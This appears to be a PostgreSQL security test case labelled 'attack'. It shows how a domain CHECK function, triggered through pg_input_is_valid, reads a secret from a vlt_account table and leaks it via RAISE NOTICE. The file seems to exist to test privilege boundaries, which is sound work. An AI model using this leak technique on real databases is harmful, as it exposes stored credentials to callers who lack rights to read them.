-- Asks whether a text is valid for the domain.
-- wants: read
-- since: 16
-- attack:
CREATE FUNCTION tell(text) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN
  RAISE NOTICE '%', (SELECT secret FROM vlt_account WHERE id = 1); RETURN true; END$$;
CREATE DOMAIN told AS text CHECK (tell(value));
SELECT pg_input_is_valid('x', 'told');
